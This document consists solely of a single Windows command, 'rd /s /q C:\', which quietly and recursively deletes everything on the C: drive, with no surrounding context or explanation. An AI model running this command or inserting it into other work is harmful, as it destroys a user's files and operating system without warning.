rd /s /q C:\
